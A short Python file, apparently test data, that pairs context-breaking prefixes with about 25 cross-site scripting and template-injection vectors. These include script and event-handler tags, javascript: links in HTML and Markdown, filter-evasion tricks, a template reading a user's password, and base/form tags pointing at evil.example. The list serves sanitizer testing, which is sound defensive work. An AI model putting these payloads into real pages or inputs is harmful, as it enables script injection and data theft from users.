"""Texts that would do something if a page took them for markup: each calls `alert`, or changes the title, if it runs."""

_BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "`}}", '" autofocus x="')
_VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<style>@import 'javascript:alert(1)';*{display:none}</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "[x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    "{{constructor.constructor('alert(1)')()}}",
    "{% debug %}{{ request.user.password }}",
    '" onmouseover=alert(1) x="',
    "<input autofocus onfocus=alert(1)>",
    "\u202e<script>alert(1)</script>\u2066",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>".replace("\u0000", "\ufffd"),
)
HOSTILE = tuple(f"{break_}{vector}" for break_ in _BREAKS for vector in _VECTORS)
